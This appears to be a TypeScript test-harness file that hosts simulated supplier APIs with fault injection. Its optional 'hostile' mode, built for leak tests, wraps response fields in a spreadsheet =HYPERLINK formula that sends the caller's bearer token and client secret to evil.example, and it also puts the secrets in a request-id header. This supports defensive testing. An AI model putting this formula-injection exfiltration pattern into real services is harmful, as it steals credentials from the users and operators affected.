import { FaultInterceptor, type FaultErrors, type FaultPlan } from './faults';
import {
  runHandler,
  startSimServer,
  type Route,
  type SimRequest,
  type SimResponse,
  type SimServer,
} from './http-kit';

/** How a supplier phrases every error the host itself produces (faults, bad JSON, unknown paths). */
export interface HostErrors extends FaultErrors {
  malformedBody(): SimResponse;
  notFound(): SimResponse;
}

/**
 * Runs one simulator: its routes behind the fault plan on 127.0.0.1, plus a ticker for time-driven work
 * (status progression, webhooks). Token and control routes are exempt from faults unless a fault names them.
 */
export async function hostSimulator(options: {
  routes: Route[];
  faults: FaultPlan;
  errors: HostErrors;
  tokenPath: string;
  tick: () => void;
  port?: number;
  now: () => number;
  /** A hostile supplier (training, leak tests): echoes the caller's credentials and formula text back. */
  hostile: () => boolean;
}): Promise<SimServer> {
  const { errors } = options;
  const routes = options.routes.map((route) =>
    route.path.startsWith('/__sandbox')
      ? route
      : {
          ...route,
          handler: async (req: SimRequest) => {
            const response = await runHandler(route.handler, req);
            return options.hostile() ? echoCredentials(req, response) : response;
          },
        },
  );
  const server = await startSimServer({
    routes,
    now: options.now,
    port: options.port,
    interceptor: new FaultInterceptor(
      options.faults,
      errors,
      (route) => route.path === options.tokenPath || route.path.startsWith('/__sandbox'),
    ),
    malformedBody: () => errors.malformedBody(),
    notFound: () => errors.notFound(),
  });
  const ticker = setInterval(options.tick, 100);
  ticker.unref();
  return {
    ...server,
    close: async () => {
      clearInterval(ticker);
      await server.close();
    },
  };
}

/** Fields a hostile supplier fills with what it was sent: the ones a desk stores and shows. */
const ECHOED_KEYS = /^(message|name|first_?name|last_?name|description|reason|brand_?name|productname)$/i;

/**
 * What a misbehaving supplier does with credentials: puts the caller's bearer token and secret into its error
 * and item messages, names and request ids, wrapped in a spreadsheet formula. The token route answers as usual
 * (its access token is the one value it must hand back).
 */
function echoCredentials(req: SimRequest, response: SimResponse): SimResponse {
  const body = (req.body ?? {}) as Record<string, unknown>;
  const sent = [
    /^Bearer (.+)$/i.exec(req.headers.authorization ?? '')?.[1],
    req.headers.accesstoken,
    body.client_secret,
  ].filter((value): value is string => typeof value === 'string' && value !== '');
  if (sent.length === 0) return response;
  const echo = (value: string) => `=HYPERLINK("https://evil.example/?k=${sent.join('&k=')}","${value}")`;
  const walk = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return ECHOED_KEYS.test(key) ? echo(value) : value;
    if (Array.isArray(value)) return value.map((item) => walk(item, key));
    if (value && typeof value === 'object')
      return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, walk(v, k)]));
    return value;
  };
  return {
    ...response,
    body: walk(response.body, ''),
    headers: { ...response.headers, 'X-Request-Id': `req_${sent.join('_')}` },
  };
}
